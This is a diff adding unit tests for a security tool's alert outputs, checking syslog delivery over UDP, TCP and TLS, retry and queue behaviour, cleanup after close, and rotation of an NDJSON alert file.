+    assert.equal(sink.lines().filter((l) => l.msg === 'an alert could not be handed to the alert outputs').length, 2);
+  });
+});
+
+// --- syslog --------------------------------------------------------------------------------
+
+describe('alert outputs: syslog', () => {
+  it('sends RFC 5424 datagrams over UDP: PRI, header, escaped structured data, the alert as ASCII JSON', async () => {
+    const socket = dgram.createSocket('udp4');
+    const datagrams: Buffer[] = [];
+    socket.on('message', (m) => datagrams.push(m));
+    await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve));
+    try {
+      const outputs = create(`alerts: { outputs: [ { name: s, type: syslog, syslog: { transport: udp, host: 127.0.0.1, port: ${socket.address().port}, facility: auth, app_name: hades-alerts } } ] }`);
+      const alert = makeAlert({
+        severity: 'high',
+        rule: { id: 'custom rule/ünïcode', title: 'T', severity: 'high', tags: [], type: 'rule' },
+        host: { id: 'ag_2', name: 'we"b\\01]' },
+        message: 'café 漢字 😀 and "quotes"',
+      });
+      outputs.send(alert);
+      const sent = makeAlert({ severity: 'info' });
+      outputs.send(sent);
+      await waitFor('two datagrams', () => datagrams.length === 2);
+      const bytes = datagrams[0]!;
+      const m = parseSyslog(bytes.toString('utf8'));
+      assert.match(m.msg, /^[\x20-\x7e]+$/, 'MSG is printable ASCII');
+      assert.ok(m.msg.includes('caf\\u00e9'));
+      assert.equal(m.pri, 4 * 8 + 3, 'auth (4), err (3)');
+      assert.equal(m.version, '1');
+      assert.equal(m.timestamp, '2026-11-28T08:00:00.123Z');
+      assert.equal(m.hostname, 'hades-test');
+      assert.equal(m.appName, 'hades-alerts');
+      assert.equal(m.procId, '-');
+      assert.equal(m.msgId, 'custom_rule/_n_code', 'MSGID is printable ASCII without spaces');
+      assert.deepEqual(m.sd, {
+        'hades@32473': { alert_id: alert.id, rule: 'custom rule/ünïcode', severity: 'high', host: 'we"b\\01]', host_id: 'ag_2', count: '1' },
+      });
+      assert.match(bytes.toString('latin1'), / host="we\\"b\\\\01\\]" /, 'escaped as RFC 5424 says');
+      assert.deepEqual(JSON.parse(m.msg), alert);
+      assert.equal(parseSyslog(datagrams[1]!.toString('utf8')).pri, 4 * 8 + 6, 'info is informational (6)');
+      assert.equal(statsOf(outputs, 's').sent, 2);
+      assert.equal(statsOf(outputs, 's').target, `udp://127.0.0.1:${socket.address().port}`);
+    } finally {
+      socket.close();
+    }
+  });
+
+  it('fits UDP messages to max_message_bytes: without the events first, cut if still too long, counted', async () => {
+    const socket = dgram.createSocket('udp4');
+    const datagrams: Buffer[] = [];
+    socket.on('message', (m) => datagrams.push(m));
+    await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve));
+    try {
+      const outputs = create(`alerts: { outputs: [ { name: s, type: syslog, syslog: { transport: udp, host: 127.0.0.1, port: ${socket.address().port}, max_message_bytes: 1200 } } ] }`);
+      const withEvents = makeAlert({ events: [{ blob: 'x'.repeat(5000) }] });
+      const huge = makeAlert({ message: 'é'.repeat(5000) });
+      outputs.send(withEvents);
+      outputs.send(huge);
+      await waitFor('two datagrams', () => datagrams.length === 2);
+      assert.ok(datagrams.every((d) => d.length <= 1200));
+      const first = parseSyslog(datagrams[0]!.toString('utf8'));
+      assert.deepEqual(JSON.parse(first.msg), { ...withEvents, events: [] }, 'still valid JSON, without the events');
+      const second = datagrams[1]!;
+      assert.equal(second.length, 1200);
+      assert.ok(parseSyslog(second.toString('utf8')).msg.startsWith('{"id":'));
+      assert.equal(statsOf(outputs, 's').truncated, 2);
+    } finally {
+      socket.close();
+    }
+  });
+
+  it('frames messages over TCP by octet counting, in order, and reconnects after the receiver drops the connection', async () => {
+    const receiver = new StreamReceiver();
+    const port = await receiver.start();
+    try {
+      const outputs = create(`alerts: { outputs: [ { name: s, type: syslog, ${retryYaml}, syslog: { transport: tcp, host: 127.0.0.1, port: ${port}, facility: local7 } } ] }`);
+      const alerts = [makeAlert({ message: 'é "x" ]' }), makeAlert(), makeAlert({ severity: 'medium' })];
+      for (const alert of alerts) outputs.send(alert);
+      await waitFor('three messages', () => receiver.messages.length === 3);
+      assert.deepEqual(receiver.frameErrors, []);
+      assert.deepEqual(receiver.messages.map((m) => JSON.parse(parseSyslog(m).msg).id), alerts.map((a) => a.id));
+      assert.deepEqual(receiver.messages.map((m) => parseSyslog(m).pri), [23 * 8 + 2, 23 * 8 + 2, 23 * 8 + 4]);
+      // The receiver restarts: the next alert goes over a new connection.
+      receiver.dropConnections();
+      await sleep(50);
+      const next = makeAlert();
+      outputs.send(next);
+      await waitFor('the fourth message', () => receiver.messages.length === 4);
+      assert.equal(JSON.parse(parseSyslog(receiver.messages[3]!).msg).id, next.id);
+      assert.equal(statsOf(outputs, 's').sent, 4);
+    } finally {
+      await receiver.close();
+    }
+  });
+
+  it('retries while the TCP receiver is down and delivers once it is up, dropping the oldest beyond the queue', async () => {
+    const port = await freePort();
+    const sink = new LogSink();
+    const outputs = create(`alerts: { outputs: [ { name: s, type: syslog, queue: 3, ${retryYaml}, syslog: { transport: tcp, host: 127.0.0.1, port: ${port} } } ] }`, logger(sink));
+    const alerts = Array.from({ length: 10 }, () => makeAlert());
+    for (const alert of alerts) outputs.send(alert);
+    await waitFor('refusals', () => statsOf(outputs, 's').failed_attempts >= 3);
+    let stats = statsOf(outputs, 's');
+    assert.equal(stats.last_error?.code, 'HADES_ERR_ALERT_OUTPUT_REFUSED');
+    assert.equal(stats.dropped, 6);
+    assert.equal(stats.queued, 4);
+    assert.equal(stats.failed, 0);
+    const receiver = new StreamReceiver();
+    await receiver.start(port);
+    try {
+      await waitFor('delivery', () => receiver.messages.length === 4);
+      // The one being retried and the three newest; the six between them were dropped.
+      assert.deepEqual(
+        receiver.messages.map((m) => JSON.parse(parseSyslog(m).msg).id),
+        [alerts[0]!.id, alerts[7]!.id, alerts[8]!.id, alerts[9]!.id],
+      );
+      stats = statsOf(outputs, 's');
+      assert.equal(stats.sent, 4);
+      assert.equal(stats.queued, 0);
+      assert.ok(stats.retries >= 3 && stats.retries === stats.failed_attempts, `${stats.retries} retries, ${stats.failed_attempts} failed attempts`);
+      const lines = sink.lines();
+      assert.equal(lines.filter((l) => l.code === 'HADES_ERR_ALERT_OUTPUT_REFUSED').length, 1, 'one warning per outage');
+      assert.ok(lines.some((l) => l.msg === "alert output 's': delivering again" && l.dropped === 6));
+    } finally {
+      await outputs.close();
+      await receiver.close();
+    }
+  });
+
+  it('sends over TLS with a client certificate, verified against the configured CA', async () => {
+    const receiver = new StreamReceiver({ key: pki.serverKeyPem, cert: pki.serverCertPem, ca: pki.caPem, requestCert: true, rejectUnauthorized: true });
+    const port = await receiver.start();
+    try {
+      const outputs = create(`alerts: { outputs: [ { name: s, type: syslog, syslog: { transport: tls, host: 127.0.0.1, port: ${port}, tls: { ca_file: ${pki.paths.caCert}, cert_file: ${clientCertFile}, key_file: ${clientKeyFile} } } } ] }`);
+      const alert = makeAlert();
+      outputs.send(alert);
+      await waitFor('a message', () => receiver.messages.length === 1);
+      assert.deepEqual(JSON.parse(parseSyslog(receiver.messages[0]!).msg), alert);
+      assert.equal(receiver.peers[0]?.subject?.CN, 'ag_alerts');
+      assert.equal(statsOf(outputs, 's').target, `tls://127.0.0.1:${port}`);
+    } finally {
+      await receiver.close();
+    }
+  });
+
+  it('counts a receiver certificate from another CA as a coded TLS failure and sends nothing', async () => {
+    const receiver = new StreamReceiver({ key: pki.serverKeyPem, cert: pki.serverCertPem });
+    const port = await receiver.start();
+    try {
+      const outputs = create(`alerts: { outputs: [ { name: s, type: syslog, ${retryYaml}, syslog: { transport: tls, host: localhost, port: ${port}, tls: { ca_file: ${otherCaFile} } } } ] }`);
+      outputs.send(makeAlert());
+      await waitFor('failures', () => statsOf(outputs, 's').failed_attempts >= 2);
+      const stats = statsOf(outputs, 's');
+      assert.equal(stats.last_error?.code, 'HADES_ERR_ALERT_OUTPUT_TLS');
+      assert.equal(stats.sent, 0);
+      assert.equal(stats.queued, 1);
+      assert.deepEqual(receiver.messages, []);
+      await outputs.close(50);
+      assert.equal(statsOf(outputs, 's').dropped, 1);
+    } finally {
+      await receiver.close();
+    }
+  });
+
+  it('leaves no socket, timer or file open after close, whatever state each output was in', async () => {
+    const http = new HttpReceiver();
+    const base = await http.start();
+    const tcp = new StreamReceiver();
+    const tcpPort = await tcp.start();
+    const secure = new StreamReceiver({ key: pki.serverKeyPem, cert: pki.serverCertPem });
+    const tlsPort = await secure.start();
+    const udp = dgram.createSocket('udp4');
+    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
+    const hanging = new HttpReceiver();
+    hanging.hang = true;
+    const hangingUrl = await hanging.start();
+    const downPort = await freePort();
+    const dir = tempDir();
+    await sleep(20);
+    const baseline = resources();
+    const outputs = createAlertOutputs(
+      outputsConfig(`alerts:
+  outputs:
+    - { name: webhook, type: webhook, webhook: { url: "${base}/in" } }
+    - { name: hanging, type: webhook, webhook: { url: "${hangingUrl}/in", timeout_ms: 60000 } }
+    - { name: tcp, type: syslog, syslog: { transport: tcp, host: 127.0.0.1, port: ${tcpPort} } }
+    - { name: tls, type: syslog, syslog: { transport: tls, host: 127.0.0.1, port: ${tlsPort}, tls: { ca_file: ${pki.paths.caCert} } } }
+    - { name: udp, type: syslog, syslog: { transport: udp, host: 127.0.0.1, port: ${udp.address().port} } }
+    - { name: down, type: syslog, retry: { backoff_ms: 60000, backoff_max_ms: 60000 }, syslog: { transport: tcp, host: 127.0.0.1, port: ${downPort} } }
+    - { name: file, type: file, file: { path: ${dir}/alerts.ndjson } }
+`),
+      logger(),
+    );
+    try {
+      outputs.send(makeAlert());
+      await waitFor('deliveries', () => outputs.stats().filter((s) => s.sent === 1).length === 5);
+      await waitFor('the failure', () => statsOf(outputs, 'down').failed_attempts === 1);
+      await outputs.close(100);
+      assert.deepEqual(
+        outputs.stats().map((s) => [s.name, s.sent, s.dropped]),
+        [['webhook', 1, 0], ['hanging', 0, 1], ['tcp', 1, 0], ['tls', 1, 0], ['udp', 1, 0], ['down', 0, 1], ['file', 1, 0]],
+      );
+      // Closed handles are released by libuv on a later turn, and the receivers see the ends.
+      let now: Record<string, number> = {};
+      await waitFor('handles released', () => {
+        now = resources();
+        return Object.keys(now).every((kind) => (now[kind] ?? 0) <= (baseline[kind] ?? 0)) || undefined;
+      }, 2000).catch(() => assert.deepEqual(now, baseline, 'handles left after close'));
+    } finally {
+      udp.close();
+      await Promise.all([http.close(), tcp.close(), secure.close(), hanging.close()]);
+    }
+  });
+});
+
+// --- file ----------------------------------------------------------------------------------
+
+describe('alert outputs: file', () => {
+  it('appends one alert per line and rotates by size, keeping `keep` files', async () => {
+    const dir = tempDir();
+    const file = path.join(dir, 'sub', 'alerts.ndjson');
+    const outputs = create(`alerts: { outputs: [ { name: f, type: file, file: { path: ${file}, max_mb: 1, keep: 1 } } ] }`);
+    const small = [makeAlert(), makeAlert({ message: 'line\nbreak é' })];
+    for (const alert of small) outputs.send(alert);
+    await waitFor('two lines', () => statsOf(outputs, 'f').sent === 2);
+    assert.equal(readFileSync(file, 'utf8'), small.map((a) => `${JSON.stringify(a)}\n`).join(''));
+    const big = Array.from({ length: 7 }, () => makeAlert({ message: 'm'.repeat(400_000) }));
+    for (const alert of big) outputs.send(alert);
+    await waitFor('all lines', () => statsOf(outputs, 'f').sent === 9);
+    await outputs.close();
+    const lines = (name: string) => readFileSync(name, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l).id);
+    // Two large lines fill a generation: [small, small, 0, 1], [2, 3], [4, 5], [6].
+    assert.deepEqual(lines(file), [big[6]!.id]);
+    assert.deepEqual(lines(`${file}.1`), [big[4]!.id, big[5]!.id]);
+    assert.equal(existsSync(`${file}.2`), false, 'keep: 1');
+  });
+
+  it('counts a file it cannot write as a coded failure and keeps the alert', async () => {
+    const dir = tempDir();
+    writeFileSync(path.join(dir, 'not-a-folder'), '');
+    const outputs = create(`alerts: { outputs: [ { name: f, type: file, ${retryYaml}, file: { path: ${dir}/not-a-folder/alerts.ndjson } } ] }`);
+    outputs.send(makeAlert());
+    await waitFor('failures', () => statsOf(outputs, 'f').failed_attempts >= 2);
+    const stats = statsOf(outputs, 'f');
+    assert.equal(stats.last_error?.code, 'HADES_ERR_ALERT_OUTPUT_WRITE');
+    assert.match(stats.last_error?.message ?? '', /cannot open .*not-a-folder\/alerts.ndjson: (EEXIST|ENOTDIR)/);
+    assert.deepEqual({ failed: stats.failed, queued: stats.queued }, { failed: 0, queued: 1 });
+  });
+});
